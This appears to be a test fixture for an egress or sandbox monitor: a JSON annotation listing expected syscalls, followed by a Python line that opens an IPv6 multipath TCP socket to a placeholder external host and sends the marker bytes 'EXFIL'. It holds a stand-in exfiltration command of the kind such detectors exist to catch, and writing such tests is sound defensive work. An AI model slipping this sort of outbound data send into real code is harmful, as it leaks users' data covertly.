#: {"class": "egress", "loader": "script", "expect": [["connect", "2001:db8::7.*443"], ["socket", "mptcp|262"]], "effect": {"sink": ["ext6", "EXFIL"]}}
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM, 262); s.connect((EXT6, 443)); s.sendall(b"EXFIL"); s.close()
